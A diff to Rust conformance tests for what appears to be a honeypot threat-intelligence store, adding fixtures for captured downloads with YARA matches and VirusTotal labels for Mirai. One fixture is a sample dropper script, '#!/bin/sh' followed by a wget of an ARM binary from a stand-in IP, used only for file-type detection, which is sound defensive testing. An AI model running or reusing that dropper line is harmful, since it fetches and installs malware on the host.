@@ -26,7 +26,7 @@ mod fake_es;
 mod rollups;
 use crate::query::{
     AttackerSummary, CommandCount, CredentialCount, Cursor, DownloadSummary, EventFilter,
-    EventQueries, SessionSummary, Window,
+    EventQueries, FileFacts, SessionSummary, Window,
 };
 pub use alerts::alert_store_conformance;
 #[cfg(feature = "elasticsearch")]
@@ -157,6 +157,27 @@ pub fn fixture() -> Vec<Event> {
     for event in &mut events {
         event.enrichment = enrichment_a();
     }
+    // The download carries what hpti learnt of its file: the analysis of its bytes and
+    // VirusTotal's file report (an address's detail leaves both out).
+    events[6].enrichment.file = Some(shared_file_analysis());
+    events[6]
+        .enrichment
+        .reputation
+        .push(hpti_core::event::Reputation {
+            source: "virustotal".into(),
+            score: None,
+            malicious: Some(31),
+            total: Some(64),
+            details: [
+                ("type".to_owned(), serde_json::json!("file")),
+                (
+                    "threat_label".to_owned(),
+                    serde_json::json!("trojan.mirai/shell"),
+                ),
+            ]
+            .into_iter()
+            .collect(),
+        });
     events.extend([
         b1(10, EventKind::SessionStarted),
         b1(11, login("root", "123456", false)),
@@ -285,6 +306,82 @@ fn download_summary(
         src_ips: src_ips.iter().map(|s| (*s).to_owned()).collect(),
         url_count: urls.len() as u64,
         urls: urls.iter().map(|s| (*s).to_owned()).collect(),
+        session: None,
+        src_ip: None,
+        url: None,
+        file: FileFacts::default(),
+    }
+}
+
+/// A downloads ranking's row: `row` with its latest download.
+fn latest(mut row: DownloadSummary, session: &str, src_ip: &str, url: &str) -> DownloadSummary {
+    row.session = Some(session.into());
+    row.src_ip = Some(src_ip.into());
+    row.url = Some(url.into());
+    row
+}
+
+/// [`SHA_SHARED`]'s row of the all-time downloads ranking.
+fn shared_all_time() -> DownloadSummary {
+    let mut row = latest(
+        download_summary(
+            SHA_SHARED,
+            2,
+            6,
+            23,
+            4,
+            &[ADDRESS_B, ADDRESS_A],
+            &["http://198.51.100.9/x.sh", "http://203.0.113.99/x.sh"],
+        ),
+        "b2",
+        ADDRESS_B,
+        "http://203.0.113.99/x.sh",
+    );
+    row.file = shared_file_facts();
+    row
+}
+
+/// [`SHA_SECOND`]'s row of the all-time downloads ranking (nothing known of its file).
+fn second_all_time() -> DownloadSummary {
+    latest(
+        download_summary(
+            SHA_SECOND,
+            1,
+            24,
+            24,
+            10,
+            &[ADDRESS_B],
+            &["http://203.0.113.99/y"],
+        ),
+        "b2",
+        ADDRESS_B,
+        "http://203.0.113.99/y",
+    )
+}
+
+/// The analysis of [`SHA_SHARED`] that the fixture's first download of it carries.
+pub fn shared_file_analysis() -> hpti_core::file::FileAnalysis {
+    hpti_core::file::FileAnalysis {
+        kind: hpti_core::file::detect(b"#!/bin/sh\nwget http://198.51.100.9/bins/arm7\n"),
+        size: 4,
+        yara_matches: vec!["shell_dropper".into(), "Mirai_Loader".into()],
+    }
+}
+
+/// The facts the downloads view gives [`SHA_SHARED`]: its analysis and VirusTotal's
+/// report, both carried by the fixture's first download of it.
+fn shared_file_facts() -> FileFacts {
+    let analysis = shared_file_analysis();
+    FileFacts {
+        file_type: Some(analysis.kind.file_type),
+        mime: Some(analysis.kind.mime),
+        file_category: Some("script".into()),
+        arch: None,
+        is_previewable: true,
+        yara_matches: vec!["Mirai_Loader".into(), "shell_dropper".into()],
+        vt_detections: Some(31),
+        vt_total: Some(64),
+        vt_threat_label: Some("trojan.mirai/shell".into()),
     }
 }
 
@@ -429,31 +526,11 @@ where
     );
     assert_eq!(
         store.downloads(all).await.ok(),
-        Some(vec![
-            download_summary(
-                SHA_SHARED,
-                2,
-                6,
-                23,
-                4,
-                &[ADDRESS_B, ADDRESS_A],
-                &["http://198.51.100.9/x.sh", "http://203.0.113.99/x.sh"],
-            ),
-            download_summary(
-                SHA_SECOND,
-                1,
-                24,
-                24,
-                10,
-                &[ADDRESS_B],
-                &["http://203.0.113.99/y"]
-            ),
-        ]),
+        Some(vec![shared_all_time(), second_all_time()]),
         "downloads, all time"
     );
-    assert_eq!(
-        store.downloads(window).await.ok(),
-        Some(vec![download_summary(
+    let mut shared_in_window = latest(
+        download_summary(
             SHA_SHARED,
             1,
             23,
@@ -461,8 +538,28 @@ where
             4,
             &[ADDRESS_B],
             &["http://203.0.113.99/x.sh"],
-        )]),
+        ),
+        "b2",
+        ADDRESS_B,
+        "http://203.0.113.99/x.sh",
+    );
+    shared_in_window.file = shared_file_facts();
+    assert_eq!(
+        store.downloads(window).await.ok(),
+        Some(vec![shared_in_window]),
         "downloads in [since, until)"
+    );
+    assert_eq!(
+        store.download(SHA_SECOND).await.ok(),
+        Some(second_all_time()),
+        "one download"
+    );
+    assert!(
+        matches!(
+            store.download(&"0".repeat(64)).await,
+            Err(StoreError::NotFound(_))
+        ),
+        "an unknown file is not found"
     );
     assert_eq!(
         store.attackers(all).await.ok(),
@@ -778,6 +875,59 @@ where
         "an unknown kind is refused, not answered with nothing"
     );
     timeseries_conformance(store, &events).await;
+    file_analysis_conformance(store).await;
+}
+
+/// `hpti analysis rescan`: a newer analysis of a file replaces the one its events
+/// carried, an older one changes nothing, and VirusTotal's report stays.
+async fn file_analysis_conformance<Q: EventQueries + ?Sized>(store: &Q) {
+    let mut rescanned = shared_file_analysis();
+    rescanned.yara_matches = vec!["Mirai_Loader".into()];
+    assert!(
+        store
+            .record_file_analysis(SHA_SHARED, &rescanned, at(5))
+            .await
+            .is_ok(),
+        "an analysis is recorded"
+    );
+    assert_eq!(
+        store.download(SHA_SHARED).await.ok(),
+        Some(shared_all_time()),
+        "an analysis older than the stored one changes nothing"
+    );
+    assert!(
+        store
+            .record_file_analysis(SHA_SHARED, &rescanned, at(100))
+            .await
+            .is_ok(),
+        "an analysis is recorded"
+    );
+    let mut expected = shared_all_time();
+    expected.file.yara_matches = vec!["Mirai_Loader".into()];
+    assert_eq!(
+        store.download(SHA_SHARED).await.ok(),
+        Some(expected),
+        "a newer analysis replaces the stored one; VirusTotal's report stays"
+    );
+    let mut mirai = rescanned.clone();
+    mirai.kind = hpti_core::file::detect(&[
+        0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0,
+    ]);
+    assert!(
+        store
+            .record_file_analysis(SHA_SECOND, &mirai, at(100))
+            .await
+            .is_ok(),
+        "an analysis of a file its events said nothing of"
+    );
+    let second = store.download(SHA_SECOND).await.ok().map(|d| d.file);
+    assert_eq!(
+        second
+            .as_ref()
+            .map(|f| (f.file_type.as_deref(), f.arch.as_deref(), f.vt_total)),
+        Some((Some("ELF 32-bit LSB executable, ARM"), Some("ARM"), None)),
+        "the file's facts: {second:?}"
+    );
 }
 
 /// Timeseries: every bucket of the fixture, by kind, at three intervals, with and
